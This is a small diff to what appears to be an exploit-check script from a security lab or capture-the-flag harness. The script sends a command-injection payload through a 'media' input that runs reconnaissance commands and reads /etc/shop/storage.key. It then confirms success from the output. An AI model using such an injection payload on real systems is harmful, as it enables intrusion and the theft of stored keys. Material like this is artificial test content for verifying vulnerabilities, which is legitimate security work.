@@ -5,7 +5,8 @@ from attack import Attack
 
 
 def run(attack: Attack) -> bool:
-    said = attack.media("id; uname -a; ls -la /srv; cat /srv/media.php | head -5; cat /etc/shop/storage.key")
+    said = attack.media("id; uname -a; ls -la /srv; head -5 /srv/media.php;"
+                        " cat /etc/shop/storage.key")
     return attack.prove("uid=33" in said and "media-77aa" in said, said=said)
 
 
